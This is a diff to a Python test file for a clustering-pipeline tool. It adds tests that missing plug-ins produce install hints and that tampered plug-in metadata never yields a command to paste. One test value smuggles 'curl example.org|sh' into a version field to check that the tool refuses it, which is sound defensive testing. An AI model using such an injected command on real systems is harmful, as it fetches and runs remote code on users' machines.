@@ -15,7 +15,7 @@ from pipeline import PluginError, SweepSpec, register_clusterer, register_score
 from storage import compare_cubes, create_cube, extend_cube, open_cube, read_ledger, read_provenance
 from storage.errors import CubeError
 from storage.query import best_exponents
-from tests.example_plugin import having, install, recorded_spec, write_spec
+from tests.example_plugin import SPEC, having, install, recorded_spec, write_spec
 from tests.faults import ROOT, Program, scheduler_and_workers
 from tests.workflows.commands import assert_refused, imwk, output_of
 from tests.workflows.compute.certificates import dask_options, make_certificates
@@ -85,6 +85,29 @@ def test_a_cube_without_its_plug_in_is_not_computed(serial: Path, tmp_path: Path
         extend_cube(missing, recorded_spec(p1=[2, 3]))
     assert read_ledger(missing).counts.missing == 1
     assert open_cube(missing).p1.size == 1
+
+
+@pytest.fixture
+def choosable(package: Path, tmp_path: Path) -> Path:
+    """Return a cube that keeps labels, of data and of a normalisation that need the package."""
+    rings = '[datasets.plugin.two]\ngenerator = "rings"\ncount = 1\nparameters = {n = 60}\n'
+    text = SPEC.replace("[datasets", f'keep = ["labels", "weights"]\n{rings}[datasets', 1)
+    spec, cube = write_spec(tmp_path, text), tmp_path / "cube.zarr"
+    run = [sys.executable, "-c", SERIALLY, str(spec), str(cube)]
+    subprocess.run(run, env=having(package), check=True, capture_output=True)
+    return cube
+
+
+def test_what_needs_a_missing_plug_in_says_what_to_install(choosable: Path, tmp_path: Path) -> None:
+    install_it = "pip install imwk-example-plugin==1.0"
+    for command in (("choose",), ("choose", "--config", "two"), ("cluster",), ("score", "--add")):
+        more = ("nmi",) if command[0] == "score" else ()
+        assert_refused(imwk(command[0], choosable, *command[1:], *more), install_it)
+    shown = " ".join(output_of("summary", choosable).split())
+    assert "Mean adjusted Rand index, rank" in shown
+    assert "What would be chosen without classes is not shown. This machine lacks the" in shown
+    output_of("report", choosable, "-o", tmp_path / "report.html")
+    assert "Choice without classes" not in (tmp_path / "report.html").read_text()
 
 
 def test_local_workers_compute_the_same_bits(serial: Path, package: Path, tmp_path: Path) -> None:
@@ -241,6 +264,24 @@ def test_a_strangers_cube_runs_nothing(name: str, canary: Path, tmp_path: Path) 
         with pytest.raises(CubeError, match="cannot be the name of a clusterer"):
             open_cube(cube)
     assert not canary.exists()
+
+
+@pytest.mark.parametrize(
+    "change",
+    [{"version": "1; curl example.org|sh"}, {"version": "1 -r x"}, {"distribution": "--pre"}],
+)
+def test_no_command_of_a_stranger_is_printed_to_be_pasted(
+    change: dict[str, str], tmp_path: Path
+) -> None:
+    cube = tmp_path / "cube.zarr"
+    create_cube(cube, recorded_spec())
+    document = cube / "zarr.json"
+    root = json.loads(document.read_text())
+    root["attributes"]["spec"]["plugins"][0] |= change
+    document.write_text(json.dumps(root))
+    refused = imwk("retry", cube)
+    assert_refused(refused)
+    assert "pip install" not in refused.output
 
 
 def test_only_plug_ins_that_a_spec_names_are_loaded(package: Path, tmp_path: Path) -> None:
